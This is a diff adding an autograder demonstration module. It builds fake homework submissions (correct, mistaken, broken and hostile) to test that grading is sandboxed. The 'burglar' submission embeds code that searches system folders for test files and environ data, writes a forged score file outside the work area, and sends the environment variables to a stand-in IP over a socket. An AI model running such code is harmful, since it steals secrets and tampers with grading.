@@ -1,0 +1,199 @@
+"""A small class for homework 1, from its solution and its known mistakes, graded for real.
+
+Each submission is written as the zip that a student hands in; the class is then graded like any
+other.  What the table says comes from the results.
+"""
+
+from __future__ import annotations
+
+import json
+import shutil
+import zipfile
+from collections.abc import Callable
+from dataclasses import dataclass, replace
+from functools import partial
+from pathlib import Path
+from typing import Any
+
+from autograder import course, grade, slips, verify
+from autograder.course import Homework
+from autograder.grade import Progress
+from autograder.submissions import Submission
+from autograder.verdict import Verdict
+
+HOMEWORK = "hw1"
+FOLDER = course.ROOT / "demo"
+
+_MISTAKES = {  # name of the submission: name of the slip it holds
+    "spread-as-sd": "sd_for_variance",
+    "no-division-by-n0": "not_divided_by_n0",
+    "icc-as-a-ratio": "icc_as_ratio",
+    "raw-means": "no_shrinkage",
+    "p-not-halved": "undivided_p",
+}
+
+
+@dataclass(frozen=True)
+class Student:
+    """One member of the class."""
+
+    name: str
+    does: str  # what the submission is, in a few words
+    submission: Callable[[Homework], Submission]
+
+
+def run(
+    folder: Path = FOLDER, jobs: int = 2, progress: Progress | None = None
+) -> tuple[list[Verdict], Path]:
+    """Write the class into a folder and grade it there.
+
+    Parameters
+    ----------
+    folder
+        Is emptied of an earlier demonstration, then holds ``submissions/`` and ``graded/``.
+    jobs
+        Number of processes.
+    progress
+        Told of each result.
+
+    Returns
+    -------
+    The verdicts, and the folder of the results.
+
+    Raises
+    ------
+    CourseError
+        Where there is no sandbox: some of these submissions mean harm.
+    """
+    homework = course.homework(HOMEWORK)
+    handed_in, graded = folder / "submissions", folder / "graded"
+    for earlier in (handed_in, graded):
+        shutil.rmtree(earlier, ignore_errors=True)
+    handed_in.mkdir(parents=True)
+    for student in students():
+        write_export(student.submission(homework), homework, handed_in / f"{student.name}.zip")
+    verdicts = grade.grade(
+        HOMEWORK, handed_in, graded, jobs=jobs, limits=short_limits(), progress=progress
+    )
+    return verdicts, graded
+
+
+def students() -> list[Student]:
+    """The class: honest, mistaken, broken and hostile."""
+    mistaken = [
+        Student(name, slip.replace("_", " "), partial(mistake, name=slip))
+        for name, slip in _MISTAKES.items()
+    ]
+    return [
+        Student("all-right", "everything right", verify.solution),
+        Student("untouched", "nothing done", verify.untouched),
+        *mistaken,
+        Student("two-tasks-only", "stopped after task 1.2", _only_two_tasks),
+        Student("endless-loop", "a cell that never ends", _endless_loop),
+        Student("crash", "a function that ends Python", _crash),
+        Student("typing-error", "a module that is not Python", _typing_error),
+        Student("burglar", "reads the tests, writes outside", _burglar),
+    ]
+
+
+def short_limits() -> course.Limits:
+    """Limits that are ample for homework 1 and keep the demonstration short."""
+    return replace(course.load().limits, cell_seconds=15, ask_seconds=6, notebook_seconds=150)
+
+
+def mistake(homework: Homework, name: str) -> Submission:
+    """The solution with the first slip of that name in it."""
+    found = (
+        slip
+        for quantity in slips.load(homework.id).QUANTITIES
+        for slip in quantity.slips
+        if slip.name == name
+    )
+    return verify.slip_submission(homework, next(found))
+
+
+def write_export(submission: Submission, homework: Homework, path: Path) -> None:
+    """Write a submission as the archive that the notebook's last cell makes."""
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
+        out.writestr(f"{homework.id}.ipynb", submission.notebook or b"")
+        if submission.module is not None:
+            out.writestr(f"hlmtools/{homework.module}.py", submission.module)
+        out.writestr("__zip_filename__", path.name)
+
+
+# ------------------------------------------------------------------------------ broken, hostile
+
+
+def with_cell(submission: Submission, before: str, code: str) -> Submission:
+    """A submission with a code cell put before the check cell of a question."""
+    notebook = json.loads(submission.notebook or b"")
+    cells: list[dict[str, Any]] = notebook["cells"]
+    check = f'grader.check("{before}")'
+    place = next(i for i, cell in enumerate(cells) if check in "".join(cell["source"]))
+    cell = {"cell_type": "code", "id": f"own-{before}", "metadata": {}, "outputs": []}
+    cells.insert(place, {**cell, "execution_count": None, "source": code})
+    return replace(submission, notebook=json.dumps(notebook).encode())
+
+
+def with_module(submission: Submission, change: Callable[[str], str]) -> Submission:
+    """A submission with the text of its student module changed."""
+    text = (submission.module or b"").decode()
+    return replace(submission, module=change(text).encode())
+
+
+def _only_two_tasks(homework: Homework) -> Submission:
+    """The solution's module cut off: later functions are those of the stub."""
+    solved, blank = verify.solution(homework), verify.untouched(homework)
+    head = "\ndef vc_deviance("
+
+    def change(text: str) -> str:
+        return text.split(head)[0] + head + (blank.module or b"").decode().split(head)[1]
+
+    return with_module(solved, change)
+
+
+def _endless_loop(homework: Homework) -> Submission:
+    return with_cell(verify.solution(homework), "task1_6", "while True:\n    eb_8367 = 0")
+
+
+def _crash(homework: Homework) -> Submission:
+    body = '    """Ends the process instead of answering."""\n    import os\n\n    os._exit(1)\n'
+
+    def change(text: str) -> str:
+        head, rest = text.split("\ndef coverage_range(", 1)
+        signature = rest.split("\n", 1)[0]
+        return f"{head}\ndef coverage_range({signature}\n{body}"
+
+    return with_module(verify.solution(homework), change)
+
+
+def _typing_error(homework: Homework) -> Submission:
+    def change(text: str) -> str:
+        return text.replace("\ndef fit_vc(", "\ndef fit_vc((", 1)
+
+    return with_module(verify.solution(homework), change)
+
+
+def _burglar(homework: Homework) -> Submission:
+    return with_cell(verify.untouched(homework), "task1_1", _BURGLARY)
+
+
+_BURGLARY = """\
+import os, pathlib, socket
+
+places = [os.getcwd(), "/work", "/judge", "/tmp", "/home", "/root", "/proc/1", "/proc/self"]
+for folder in places:
+    for where, _, names in os.walk(folder):
+        for name in names:
+            if name == "environ" or name.startswith(("task1_", "hw1")):
+                try:
+                    print(where, name, open(f"{where}/{name}", errors="replace").read())
+                except OSError as error:
+                    print(error)
+for folder in (*places, "/", "/etc", "/usr", "/dev/shm", "../../.."):
+    try:
+        pathlib.Path(folder, "burglar-was-here").write_text("40 of 40")
+    except OSError as error:
+        print(error)
+socket.create_connection(("192.0.2.1", 80), timeout=2).sendall(repr(dict(os.environ)).encode())
+"""
